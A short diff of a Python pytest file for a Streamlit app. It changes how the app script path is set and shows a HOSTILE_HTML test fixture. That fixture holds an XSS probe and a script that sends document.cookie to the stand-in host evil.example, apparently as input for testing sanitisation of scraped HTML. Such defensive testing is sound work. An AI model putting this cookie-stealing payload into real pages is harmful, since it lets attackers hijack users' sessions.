@@ -12,13 +12,12 @@ import pytest
 from streamlit.testing.v1 import AppTest
 
 from components.registry import BY_ID, PAGES
-from components.ui.router import SCRIPT
 from data.changes import default_window, known_since
 from data.load import load_seeds
 from tests.conftest import forget_added_dates
 
 ROOT = Path(__file__).resolve().parents[2]
-APP = str(SCRIPT)
+APP = str(ROOT / "app.py")
 ARTICLE = ROOT / "tests" / "fixtures" / "articles" / "02-business-times-75k-cap.txt"
 HOSTILE_HTML = """<html><head><title>Nvidia H200 <script>alert(1)</script></title>
 <script>document.location='https://evil.example/?c='+document.cookie</script></head>
